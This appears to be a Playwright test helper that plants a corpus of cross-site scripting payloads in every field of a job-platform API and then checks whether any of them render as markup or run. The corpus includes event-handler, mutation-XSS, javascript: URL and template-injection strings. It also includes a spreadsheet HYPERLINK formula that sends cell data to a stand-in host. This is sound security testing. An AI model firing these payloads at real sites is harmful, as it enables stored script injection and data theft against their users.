import type { Page } from '@playwright/test';
import type { Caller } from './api';
import { wallTimeIn } from './workerLink';

/** An element that no page uses: finding it means that a text became markup. */
export const MARK = 'xss-mark';

/** Each text starts by closing its possible context. Its script would set `planted` to its number. */
const attack = (n: number, text: string): string => text.replaceAll('RUN', `top.planted=${n}`);

/** Texts that could become markup or code in elements, attributes, scripts, styles, addresses, templates or XML. */
export const CORPUS: readonly string[] = [
  `"'><${MARK}><img src=x onerror=RUN>`,
  `</script></style></title></textarea><${MARK}><svg onload=RUN>`,
  `' autofocus onfocus='RUN' ${MARK}='`,
  `<iframe srcdoc="<script>RUN</script>"></iframe><${MARK}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>"><${MARK}>`,
  `javascript:RUN//"><${MARK}>`,
  `{{constructor.constructor('RUN')()}}\${RUN}<%= RUN %><${MARK}>`,
  `<a href="jav&#x09;ascript:RUN">x</a><form action=javascript:RUN><button>y</button></form><${MARK}>`,
  `]]><${MARK}>&lt;${MARK}&gt;&#60;${MARK}&#62;\u003c${MARK}\u003e`,
  `\u2028</ScRiPt\u0020><${MARK}><svg><animate onbegin=RUN attributeName=x>`,
  `=HYPERLINK("http://e.example/?"&A1;"x")<${MARK}>`,
  `@import'//e.example';}*{background:url(javascript:RUN)}<${MARK}>`,
  `<b>{name}</b>'{'<${MARK}>{n, plural, other {<${MARK}>}}`,
  `\uff1c${MARK}\uff1e<details open ontoggle=RUN><${MARK}>`,
].map((text, n) => attack(n + 1, text));

/** Records the dialogs that scripts open on the page. */
export const watchScripts = (page: Page): string[] => {
  const opened: string[] = [];
  page.on('dialog', (dialog) => {
    opened.push(dialog.message());
    void dialog.dismiss();
  });
  return opened;
};

/** Counts the elements that the texts created in the page and its frames, and returns what their scripts set. */
export const plantedIn = async (page: Page): Promise<{ marks: number; ran: unknown }> => {
  const counts = await Promise.all(
    page
      .frames()
      .map((frame) =>
        frame.evaluate(
          (mark) =>
            document.querySelectorAll(
              `${mark}, [${mark}], [onerror], [onload], [onfocus], [ontoggle], [onbegin], iframe[srcdoc]`,
            ).length,
          MARK,
        ),
      ),
  );
  const ran = await page.evaluate(() => (globalThis as { planted?: unknown }).planted ?? null);
  return { marks: counts.reduce((sum, count) => sum + count, 0), ran };
};

/** Records that contain one of the texts. */
export interface Planted {
  text: string;
  jobId: number;
  applicationId: number;
  workerId: number;
  threadId: number;
}

interface Callers {
  branch: Caller;
  root: Caller;
  gateway: Caller;
  branchId: number;
}

export const hrEmail = (n: number): string => `xss-hr-${n}@demo.test`;

const NAME_MAX = 100;
const POINT = '40.99, 29.03';

const jobWith = async ({ branch }: Callers, text: string): Promise<number> => {
  const name = text.slice(0, NAME_MAX);
  const place = await branch.call<{ id: number }>('post', '/api/job/company-location', { name, location: POINT });
  const { tag } = await branch.call<{ tag: { id: number } }>('post', '/api/job/tag', { name });
  const [category] = await branch.call<{ id: number }[]>('get', '/shared-api/job/job-categories/datalist');
  const [position] = await branch.call<{ id: number }[]>('get', '/api/job/job-positions/datalist?q=');
  const { job } = await branch.call<{ job: { id: number } }>('post', '/api/job', {
    title: text,
    description: text,
    status: 'active',
    positionId: position!.id,
    categoryId: category!.id,
    contactType: 'no_contact',
    companyLocationIds: [place.id],
    tagIds: [tag.id],
    isFullTime: true,
  });
  return job.id;
};

const workerWith = async ({ gateway }: Callers, text: string, n: number): Promise<number> => {
  const experience = { companyName: text, position: text, durationMonths: 12 };
  const { worker } = await gateway.call<{ worker: { id: number } }>('put', `/worker-gateway/workers/xss-${n}`, {
    firstName: text,
    lastName: text,
    location: POINT,
    locationName: text,
    disabledStatus: text,
    university: text,
    universityDepartment: text,
    certificates: [text],
    about: text,
    workCategoryPreferences: [text],
    experiences: [experience],
  });
  return worker.id;
};

const accountsWith = async ({ root }: Callers, text: string, n: number): Promise<void> => {
  const person = { firstName: text, lastName: text };
  await root.call('put', '/api/hr-accounts/create', { ...person, email: hrEmail(n) });
  await root.call('put', '/api/branch-accounts/create', {
    ...person,
    email: `xss-branch-${n}@demo.test`,
    companyName: text,
    location: POINT,
    commercialTitle: text,
    website: text,
    companyAddress: text,
  });
};

/** Stores a text in every field that accepts one, through the API and the workers’ product. */
export const plant = async (callers: Callers, text: string, n: number): Promise<Planted> => {
  const { branch, gateway, branchId } = callers;
  const jobId = await jobWith(callers, text);
  const workerId = await workerWith(callers, text, n);
  const applied = await gateway.call<{ application: { id: number } }>(
    'post',
    `/worker-gateway/jobs/${jobId}/applications`,
    {
      workerId,
    },
  );
  const applicationId = applied.application.id;
  const check = { worker_id: workerId, company_id: branchId };
  const { thread } = await branch.call<{ thread: { id: number } }>('put', '/api/messages/check', check);
  await gateway.call('post', `/worker-gateway/threads/${thread.id}/messages`, {
    workerId,
    body: text,
    client_message_id: crypto.randomUUID(),
  });
  const message = { user_id: branchId, recipient_id: workerId, body: text, message_status: 2, type: 'text' };
  await branch.call('put', '/api/messages/send', { ...message, client_message_id: crypto.randomUUID() });
  await branch.call('post', '/api/job/application-comment', { workerId, message: text });
  await branch.call('put', `/api/job/application/${applicationId}/shortlist`, { isShortlisted: true });
  // An early time tomorrow puts the appointment on the first page of fifty.
  await branch.call('post', '/api/appointment', {
    startAt: wallTimeIn(1, 6),
    latitude: 40.99,
    longitude: 29.03,
    address: text,
    workerId,
    companyId: branchId,
    applicationId,
  });
  await accountsWith(callers, text, n);
  return { text, jobId, applicationId, workerId, threadId: thread.id };
};
